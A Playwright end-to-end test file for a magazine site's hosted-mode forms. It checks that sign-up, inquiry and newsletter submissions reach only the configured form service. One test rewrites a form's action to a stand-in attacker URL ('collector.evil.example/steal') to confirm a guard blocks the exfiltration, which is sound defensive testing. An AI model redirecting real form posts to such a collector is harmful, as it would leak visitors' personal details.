import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Request } from '@playwright/test';
import { test, expect, hydrated } from './fixtures';

// The hosted-mode build (e2e/hosted.yaml, built by make test-e2e into
// .cache/e2e-hosted), served on a port of its own. Every form must post
// to the hosted service's absolute endpoint, which the test intercepts: the
// internet is never contacted, and neither is our collector.
const SERVICE = 'https://forms.nivaran.example/f/';
let server: ChildProcess;
let base: string;
let data: string;

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  test.setTimeout(90_000); // a busy machine starts processes slowly
  data = mkdtempSync(join(tmpdir(), 'nivaran-hosted-'));
  server = spawn('bin/magazine', ['serve', '--dir', '.cache/e2e-hosted', '--data', data, '--addr', '127.0.0.1:0'], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  base = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('magazine serve did not start')), 80_000);
    server.stdout!.on('data', (d: Buffer) => {
      const m = /at (http:\/\/\S+) /.exec(d.toString());
      if (m) {
        clearTimeout(timer);
        resolve(m[1]);
      }
    });
    server.on('exit', (code) => reject(new Error(`magazine serve exited with ${code}`)));
  });
});

test.afterAll(() => {
  server?.kill('SIGTERM');
  rmSync(data, { recursive: true, force: true });
});

// Records what reaches the form service; fails anything else off this machine
// and any post to the collector.
async function intercept(page: Page) {
  const posts: Request[] = [];
  const stray: string[] = [];
  // Routes match last registered first: the catch-alls go first.
  await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
    stray.push(route.request().url());
    return route.abort();
  });
  await page.route('**/api/forms/**', (route) => {
    stray.push(route.request().url());
    return route.abort();
  });
  await page.route(`${SERVICE}**`, async (route) => {
    // Answer as a hosted form service does, CORS included (the JSON sign-up
    // is preflighted).
    const cors = { 'Access-Control-Allow-Origin': base, 'Access-Control-Allow-Headers': 'content-type, accept', 'Access-Control-Allow-Methods': 'POST' };
    if (route.request().method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
    posts.push(route.request());
    if (route.request().headers()['accept']?.includes('application/json')) {
      await route.fulfill({ status: 200, contentType: 'application/json', headers: cors, body: '{"ok":true}' });
    } else {
      await route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>Form service</title><h1>Thanks from the form service</h1>' });
    }
  });
  return { posts, stray };
}

test('the launch sign-up posts JSON to the hosted endpoint', async ({ page }) => {
  await page.clock.install({ time: new Date('2025-09-05T10:00:00') });
  const { posts, stray } = await intercept(page);
  await page.goto(`${base}/`);
  await hydrated(page);
  const dialog = page.getByRole('dialog', { name: 'Launching Soon!' });
  await page.getByRole('complementary', { name: 'Portal launch' }).getByRole('button', { name: 'Stay updated' }).click();
  await dialog.getByLabel('Name').fill('Asha Rao');
  await dialog.getByLabel('Email').fill('asha@example.in');
  await dialog.getByRole('button', { name: 'Get Launch Update' }).click();
  await expect(dialog.getByText('Thank you!')).toBeVisible();
  expect(posts.map((r) => r.url())).toEqual([`${SERVICE}launch`]);
  expect(posts[0].postDataJSON()).toMatchObject({ name: 'Asha Rao', email: 'asha@example.in', subject: 'Launch Update Subscription' });
  expect(stray).toEqual([]);
});

test('the editorial and partnership inquiries post to their hosted endpoints', async ({ page }) => {
  const { posts, stray } = await intercept(page);
  await page.goto(`${base}/about#join`);
  await hydrated(page);
  const editorial = page.locator('#editorial-form');
  await editorial.getByLabel('Full name').fill('Meera Iyer-Sampath');
  await editorial.getByLabel('Email').fill('meera@example.in');
  await editorial.getByRole('button', { name: 'Send editorial inquiry' }).click();
  await expect(editorial.getByText(/Thank you! Your submission has been sent successfully/)).toBeVisible();
  const partnership = page.locator('#partnership-form');
  await partnership.getByLabel('Full name').fill('Kabir Anand-Menon');
  await partnership.getByLabel('Email').fill('kabir@example.in');
  await partnership.getByRole('button', { name: 'Send partnership inquiry' }).click();
  await expect(partnership.getByText(/Thank you! Your submission has been sent successfully/)).toBeVisible();
  expect(posts.map((r) => r.url())).toEqual([`${SERVICE}editorial`, `${SERVICE}partnership`]);
  expect(posts[0].postData()).toContain('meera@example.in');
  expect(posts[1].postData()).toContain('kabir@example.in');
  expect(stray).toEqual([]);
});

test('the newsletter form posts to the hosted endpoint as a plain browser form', async ({ page }) => {
  const { posts, stray } = await intercept(page);
  await page.goto(`${base}/about#newsletter`);
  await hydrated(page);
  const form = page.getByRole('form', { name: 'Newsletter sign-up' });
  await expect(form).toHaveAttribute('action', `${SERVICE}newsletter`);
  await form.getByLabel('Email address').fill('reader@example.in');
  await form.getByRole('button', { name: 'Subscribe' }).click();
  await expect(page.getByRole('heading', { name: 'Thanks from the form service' })).toBeVisible();
  expect(posts.map((r) => r.url())).toEqual([`${SERVICE}newsletter`]);
  expect(posts[0].method()).toBe('POST');
  expect(posts[0].postData()).toBe('email=reader%40example.in');
  expect(stray).toEqual([]);
});

test('the guard blocks an action that is not a configured endpoint', async ({ page }) => {
  const { posts, stray } = await intercept(page);
  await page.goto(`${base}/about#join`);
  await hydrated(page);
  const form = page.locator('#editorial-form');
  await form.evaluate((f) => f.setAttribute('action', 'https://collector.evil.example/steal'));
  await form.getByLabel('Full name').fill('Meera Iyer-Sampath');
  await form.getByLabel('Email').fill('meera@example.in');
  await form.getByRole('button', { name: 'Send editorial inquiry' }).click();
  await expect(form.getByText('Form configuration error. Please try again.')).toBeVisible();
  expect(posts).toEqual([]);
  expect(stray).toEqual([]);
});
